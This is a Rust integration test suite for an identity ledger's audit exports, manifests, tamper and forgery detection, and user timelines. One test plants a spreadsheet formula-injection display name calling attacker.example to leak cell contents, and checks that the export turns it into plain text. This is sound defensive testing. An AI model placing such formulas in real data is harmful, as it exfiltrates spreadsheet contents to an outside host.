//! Auditors: exports and their verification against a live server, and one user's timeline.

use crate::support::idledger;
use crate::support::{world, World};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::path::Path;
use std::time::{Duration, Instant};

const PASSWORD_KINDS: [&str; 10] = [
    "RotationStarted",
    "RotationRetried",
    "RotationSucceeded",
    "RotationFailed",
    "KeyWriteQueued",
    "KeyWriteDelivered",
    "KeyWriteConfirmed",
    "KeyWriteFailed",
    "KeyWriteSuperseded",
    "PasswordRevealed",
];

/// A world with rotations, deliveries, an acknowledgement, a refusal and a reveal.
async fn audited_world() -> (World, Vec<String>) {
    let w = world(json!({"auto_import": true})).await;
    w.sync().await;
    let mut ids = Vec::new();
    for (n, key) in [(1, "K-1"), (2, "K-2"), (3, "K-3")] {
        let id = w.user(n).await.unwrap()["id"].as_str().unwrap().to_owned();
        let (s, _) = w.put_key(&id, key).await;
        assert_eq!(s, StatusCode::OK);
        let (s, _) = w
            .admin(Method::POST, &format!("/v1/users/{id}/rotate"), None)
            .await;
        assert_eq!(s, StatusCode::ACCEPTED);
        ids.push(id);
    }
    for id in &ids {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let (_, h) = w
                .admin(
                    Method::GET,
                    &format!("/v1/users/{id}/password-history"),
                    None,
                )
                .await;
            if h["items"][0]["outcome"]
                .as_str()
                .is_some_and(|o| o != "pending")
            {
                break;
            }
            assert!(Instant::now() < deadline);
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    let agent = w.app.token("agent", &["K-2", "K-3"]).await;
    let (_, writes) = w
        .app
        .call(Some(&agent), Method::GET, "/v1/agent/key-writes", None)
        .await;
    let first = writes["items"][0]["id"].as_str().unwrap().to_owned();
    let (s, _) = w
        .app
        .call(
            Some(&agent),
            Method::POST,
            &format!("/v1/agent/key-writes/{first}/ack"),
            Some(json!({"result": "written"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, _) = w
        .admin(
            Method::POST,
            &format!("/v1/users/{}/password/reveal", ids[2]),
            Some(json!({"reason": "audit test"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    (w, ids)
}

/// Runs the CLI against the world's server.
fn cli(w: &World, args: &[&str]) -> (i32, Value) {
    let out = idledger()
        .args(args)
        .args(["--server", &w.app.url])
        .env("IDLEDGER_TOKEN", &w.app.admin)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let v = serde_json::from_str(text.trim()).unwrap_or(Value::String(text.into_owned()));
    (out.status.code().unwrap_or(-1), v)
}

fn export(w: &World, dir: &Path, name: &str, args: &[&str]) -> std::path::PathBuf {
    let out = dir.join(name);
    let mut all = vec!["export", "--out", out.to_str().unwrap()];
    all.extend_from_slice(args);
    let (code, v) = cli(w, &all);
    assert_eq!(code, 0, "{v}");
    out
}

async fn events(w: &World) -> Vec<Value> {
    let (_, body) = w
        .admin(Method::GET, "/v1/events?from_position=1&limit=100000", None)
        .await;
    body["items"].as_array().unwrap().clone()
}

fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::Reader::from_path(path).unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exports_rows_are_the_events_in_its_range_and_filters() {
    let (w, ids) = audited_world().await;
    let dir = tempfile::tempdir().unwrap();
    let all = events(&w).await;
    let password: Vec<&Value> = all
        .iter()
        .filter(|e| PASSWORD_KINDS.contains(&e["kind"].as_str().unwrap()))
        .collect();
    assert!(password.len() >= 9, "{}", password.len());

    let file = export(
        &w,
        dir.path(),
        "all.csv",
        &["--kind", "password-changes", "--format", "csv"],
    );
    let rows = csv_rows(&file);
    assert_eq!(rows.len(), password.len());
    for (row, e) in rows.iter().zip(&password) {
        assert_eq!(row[0], e["position"].to_string());
        assert_eq!(row[10], e["hash"].as_str().unwrap());
        assert_eq!(row[9], e["actor"].as_str().unwrap());
    }
    let steps: Vec<&str> = rows.iter().map(|r| r[6].as_str()).collect();
    for s in [
        "started",
        "succeeded",
        "failed",
        "key write queued",
        "key write delivered",
        "key write confirmed",
        "revealed",
    ] {
        assert!(steps.contains(&s), "{s} in {steps:?}");
    }
    // User 1 is an administrator: Graph's code is in its failed row.
    assert!(rows
        .iter()
        .any(|r| r[6] == "failed" && r[8] == "Authorization_RequestDenied"));
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("all.csv.manifest.json")).unwrap())
            .unwrap();
    assert_eq!(manifest["rows"], rows.len());
    assert_eq!(manifest["first_position"], password[0]["position"]);
    assert_eq!(
        manifest["last_position"],
        password.last().unwrap()["position"]
    );
    assert_eq!(manifest["chain_hash"], all.last().unwrap()["hash"]);

    // One user's rows only.
    let file = export(
        &w,
        dir.path(),
        "one.jsonl",
        &[
            "--kind",
            "password-changes",
            "--format",
            "jsonl",
            "--user",
            &ids[1],
        ],
    );
    let lines: Vec<Value> = std::fs::read_to_string(&file)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mine: Vec<&&Value> = password
        .iter()
        .filter(|e| e["stream"] == format!("user-{}", ids[1]).as_str())
        .collect();
    assert_eq!(lines.len(), mine.len());
    assert!(lines.iter().all(|l| l["user_id"] == ids[1].as_str()));

    // A time range: the rows from the reveal's time on are the reveal's.
    let reveal = password
        .iter()
        .find(|e| e["kind"] == "PasswordRevealed")
        .unwrap();
    let t = reveal["recorded_at"].as_str().unwrap();
    let file = export(
        &w,
        dir.path(),
        "late.csv",
        &["--kind", "password-changes", "--format", "csv", "--from", t],
    );
    let rows = csv_rows(&file);
    let later: Vec<&&Value> = password
        .iter()
        .filter(|e| e["recorded_at"].as_str().unwrap() >= t)
        .collect();
    assert_eq!(rows.len(), later.len());
    assert!(rows.iter().any(|r| r[6] == "revealed"));

    // The API gives the same rows with the same columns.
    let resp = w
        .app
        .http
        .get(format!(
            "{}/v1/audit/exports/password-changes?format=csv",
            w.app.url
        ))
        .bearer_auth(&w.app.admin)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let head: u64 = resp.headers()["x-idledger-log-position"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    let body = resp.bytes().await.unwrap();
    assert_eq!(
        &body[..],
        &std::fs::read(dir.path().join("all.csv")).unwrap()[..]
    );
    let (s, m) = w
        .admin(
            Method::GET,
            "/v1/audit/exports/password-changes/manifest?format=csv",
            None,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(m["file_sha256"], manifest["file_sha256"]);
    // The header names the position the body was cut at: no earlier than the CLI's
    // export before it, no later than the manifest made after it.
    assert!(manifest["log_position"].as_u64().unwrap() <= head);
    assert!(head <= m["log_position"].as_u64().unwrap());
    let (s, _) = w
        .admin(Method::GET, "/v1/audit/exports/secrets", None)
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);

    // Users at a time: the state then.
    let file = export(
        &w,
        dir.path(),
        "users.csv",
        &["--kind", "users", "--format", "csv"],
    );
    let rows = csv_rows(&file);
    // 29 imported users and the disabled member of the sync group, on record.
    assert_eq!(rows.len(), 30);
    assert!(rows.iter().any(|r| r[8] == "K-2"));
    // No secret in any export.
    for f in ["all.csv", "one.jsonl", "late.csv", "users.csv"] {
        let text = std::fs::read_to_string(dir.path().join(f)).unwrap();
        assert!(!text.contains("contoso-demo-secret"));
    }
    let ev = export(
        &w,
        dir.path(),
        "events.jsonl",
        &["--kind", "events", "--format", "jsonl"],
    );
    let text = std::fs::read_to_string(ev).unwrap();
    assert_eq!(text.lines().count(), all.len());
    assert!(!text.contains("contoso-demo-secret"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn editing_removing_or_adding_a_row_makes_verify_export_fail_at_that_row() {
    let (w, _) = audited_world().await;
    let dir = tempfile::tempdir().unwrap();
    for (name, format) in [("x.csv", "csv"), ("x.jsonl", "jsonl")] {
        let file = export(
            &w,
            dir.path(),
            name,
            &["--kind", "password-changes", "--format", format],
        );
        let path = file.to_str().unwrap().to_owned();
        let (code, v) = cli(&w, &["verify-export", &path]);
        assert_eq!(code, 0, "{v}");
        assert_eq!(v["ok"], true);
        let original = std::fs::read_to_string(&file).unwrap();
        let mut lines: Vec<String> = original.lines().map(str::to_owned).collect();
        let header = usize::from(format == "csv");
        let check = |lines: &[String], want: Value| {
            std::fs::write(&file, lines.join("\n") + "\n").unwrap();
            let (code, v) = cli(&w, &["verify-export", &path]);
            assert_eq!(code, 1, "{format}: {v}");
            assert!(
                v["problems"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|p| { want.as_object().unwrap().iter().all(|(k, x)| &p[k] == x) }),
                "{format}: want {want} in {v}"
            );
        };
        // Edit row 3: one character of its user principal name... or any field.
        let mut edited = lines.clone();
        edited[header + 2] = edited[header + 2]
            .replacen("key", "KEY", 1)
            .replacen("start", "START", 1);
        if edited[header + 2] == lines[header + 2] {
            edited[header + 2].push(' ');
        }
        check(&edited, json!({"problem": "differs", "row": 3}));
        // Remove row 2.
        let mut removed = lines.clone();
        removed.remove(header + 1);
        check(&removed, json!({"problem": "differs", "row": 2}));
        // Remove the last row.
        let mut short = lines.clone();
        short.pop();
        check(
            &short,
            json!({"problem": "missing", "row": lines.len() - header}),
        );
        // Add a row at the end.
        let extra = lines.last().unwrap().clone();
        lines.push(extra);
        check(
            &lines,
            json!({"problem": "extra", "row": lines.len() - header}),
        );
        std::fs::write(&file, &original).unwrap();
        let (code, v) = cli(&w, &["verify-export", &path]);
        assert_eq!(code, 0, "restored: {v}");
    }
}

/// Rows cut off the end with the manifest moved back to match (its position, chain hash,
/// count and file hash all honest for the shorter file) no longer pass: the log holds
/// records inside the manifest's range past its position. Nor does a manifest whose row
/// positions were edited; and a range that has not ended yet is refused up front.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_cut_short_or_with_edited_positions_fails_verification() {
    let (w, _) = audited_world().await;
    let all = events(&w).await;
    let time = |i: usize| all[i]["recorded_at"].as_str().unwrap().to_owned();
    // An early end with later records after it, and the log's last record.
    let early = (1..all.len() - 1)
        .find(|&i| time(i + 1) > time(i) && i > all.len() / 2)
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let args = |to: &str| -> Vec<String> {
        ["--kind", "events", "--format", "jsonl", "--to", to]
            .map(str::to_owned)
            .to_vec()
    };
    let late = time(all.len() - 1);
    // A range is exported once it has settled (5 s after its end).
    let settled =
        chrono::DateTime::parse_from_rfc3339(&late).unwrap() + chrono::Duration::milliseconds(5100);
    if let Ok(wait) = (settled.with_timezone(&chrono::Utc) - chrono::Utc::now()).to_std() {
        tokio::time::sleep(wait).await;
    }
    let whole = export(
        &w,
        dir.path(),
        "whole.jsonl",
        &args(&late).iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let whole = whole.to_str().unwrap().to_owned();
    let (code, v) = cli(&w, &["verify-export", &whole]);
    assert_eq!((code, &v["ok"]), (0, &json!(true)), "{v}");
    // The forgery: an honest export of the shorter range, its manifest claiming the
    // longer one.
    let cut = export(
        &w,
        dir.path(),
        "cut.jsonl",
        &args(&time(early))
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
    );
    let manifest = format!("{}.manifest.json", cut.to_str().unwrap());
    let honest: Value = serde_json::from_str(&std::fs::read_to_string(&manifest).unwrap()).unwrap();
    assert_eq!(honest["log_position"], all[early]["position"]);
    let (code, v) = cli(&w, &["verify-export", cut.to_str().unwrap()]);
    assert_eq!(code, 0, "the shorter range itself verifies: {v}");
    let forge = |edit: &dyn Fn(&mut Value)| {
        let mut m = honest.clone();
        edit(&mut m);
        std::fs::write(&manifest, m.to_string()).unwrap();
        let (code, v) = cli(&w, &["verify-export", cut.to_str().unwrap()]);
        assert_eq!(code, 1, "{v}");
        v["problems"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["problem"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    let late_value = json!(late);
    assert_eq!(
        forge(&|m| m["range"]["to"] = late_value.clone()),
        ["incomplete_range"]
    );
    assert_eq!(
        forge(&|m| m["last_position"] = json!(999_999)),
        ["row_positions"]
    );
    // A range that ends in the future would be cut short by the time it is checked.
    let out = dir.path().join("future.jsonl");
    let (code, v) = cli(
        &w,
        &[
            "export",
            "--out",
            out.to_str().unwrap(),
            "--kind",
            "events",
            "--to",
            "2999-01-01T00:00:00Z",
        ],
    );
    assert_ne!(code, 0, "{v}");
    assert!(!out.exists());
    let (s, body) = w
        .admin(
            Method::GET,
            "/v1/audit/exports/events?to=2999-01-01T00:00:00Z",
            None,
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{body}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_users_timeline_tells_the_whole_story_in_order() {
    let (w, ids) = audited_world().await;
    let (s, t) = w
        .admin(Method::GET, &format!("/v1/users/{}/timeline", ids[2]), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{t}");
    let items = t["items"].as_array().unwrap();
    let whats: Vec<&str> = items.iter().map(|e| e["what"].as_str().unwrap()).collect();
    for want in ["sync", "status", "key", "rotation", "key_write", "reveal"] {
        assert!(whats.contains(&want), "{want} in {whats:?}");
    }
    let positions: Vec<u64> = items
        .iter()
        .map(|e| e["position"].as_u64().unwrap())
        .collect();
    assert!(positions.windows(2).all(|p| p[0] < p[1]));
    // Sealed passwords show as "sealed"; no plain password field at all.
    assert!(!t.to_string().contains("\"password\":"), "no password: {t}");
    let (s, _) = w
        .admin(
            Method::GET,
            &format!("/v1/users/{}/timeline", uuid::Uuid::new_v4()),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

/// A display name a spreadsheet would run (`=HYPERLINK(…)`) is exported as text, and the
/// export still verifies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_looking_names_are_exported_as_text_and_still_verify() {
    let w = crate::support::world(json!({"auto_import": true})).await;
    let evil = "=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"Click\")";
    w.sim(
        Method::PATCH,
        &format!("/_sim/users/{}", crate::support::ext(3)),
        Some(json!({"displayName": evil})),
    )
    .await;
    w.sync().await;
    let dir = tempfile::tempdir().unwrap();
    let path = export(
        &w,
        dir.path(),
        "users.csv",
        &["--kind", "users", "--format", "csv"],
    );
    let rows = csv_rows(&path);
    let cell = rows
        .iter()
        .flat_map(|r| r.iter())
        .find(|c| c.contains("HYPERLINK"))
        .expect("the name is exported");
    assert_eq!(cell, &format!("'{evil}"));
    assert!(!rows
        .iter()
        .flat_map(|r| r.iter())
        .any(|c| c.starts_with(['=', '+', '-', '@'])));
    let (code, v) = cli(&w, &["verify-export", path.to_str().unwrap()]);
    assert_eq!(code, 0, "{v}");
}

/// On a server that keeps appending, an export and a manifest asked for later describe
/// one file when the manifest names the export's `x-idledger-log-position`; without it
/// the manifest describes the longer log (which is why the console pins the position).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_manifest_pinned_to_the_exports_position_describes_that_file_while_the_log_grows() {
    use sha2::Digest;
    let app = crate::support::spawn_app().await;
    for _ in 0..3 {
        app.token("auditor", &[]).await;
    }
    let resp = app.admin_get("/v1/audit/exports/events?format=csv").await;
    assert_eq!(resp.status(), StatusCode::OK);
    let position: u64 = resp.headers()["x-idledger-log-position"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    let file = resp.bytes().await.unwrap();
    let sha = hex::encode(sha2::Sha256::digest(&file));
    // The log grows before the manifest is asked for.
    app.token("auditor", &[]).await;
    let manifest = |query: String| {
        let app = &app;
        async move {
            let r = app
                .admin_get(&format!("/v1/audit/exports/events/manifest?{query}"))
                .await;
            let status = r.status();
            (status, r.json::<Value>().await.unwrap())
        }
    };
    let (s, pinned) = manifest(format!("format=csv&at_position={position}")).await;
    assert_eq!(s, StatusCode::OK, "{pinned}");
    assert_eq!(pinned["file_sha256"], sha.as_str(), "{pinned}");
    assert_eq!(pinned["log_position"], position);
    let (_, unpinned) = manifest("format=csv".into()).await;
    assert_ne!(
        unpinned["file_sha256"],
        sha.as_str(),
        "the log did not grow"
    );
    // The export itself can be pinned too, and a position past the head is refused.
    let again = app
        .admin_get(&format!(
            "/v1/audit/exports/events?format=csv&at_position={position}"
        ))
        .await
        .bytes()
        .await
        .unwrap();
    assert_eq!(again, file);
    let (s, body) = manifest(format!("format=csv&at_position={}", position + 1_000)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.to_string().contains("at_position"), "{body}");
    // Position 0 reads nothing of a log that holds records: no export of it.
    let (s, body) = manifest("format=csv&at_position=0".into()).await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{body}");
}

/// With `to`, the range's end says where the export stops: a position before it cannot
/// cut the range short (its manifest would fail `verify-export` as incomplete).
#[tokio::test]
async fn a_position_cannot_cut_a_closed_range_short() {
    let app = crate::support::spawn_app().await;
    for _ in 0..3 {
        app.token("auditor", &[]).await;
    }
    tokio::time::sleep(std::time::Duration::from_millis(5_200)).await;
    let to = (chrono::Utc::now() - chrono::Duration::seconds(5)).to_rfc3339();
    let to = urlencoding::encode(&to);
    let query = format!("format=csv&to={to}&at_position=1");
    let file = app
        .admin_get(&format!("/v1/audit/exports/events?{query}"))
        .await
        .bytes()
        .await
        .unwrap();
    let manifest: Value = app
        .admin_get(&format!("/v1/audit/exports/events/manifest?{query}"))
        .await
        .json()
        .await
        .unwrap();
    assert!(manifest["log_position"].as_u64().unwrap() > 1, "{manifest}");
    let report: Value = app
        .verify_upload(&app.admin, &manifest, &file)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(report["ok"], true, "{report}");
}
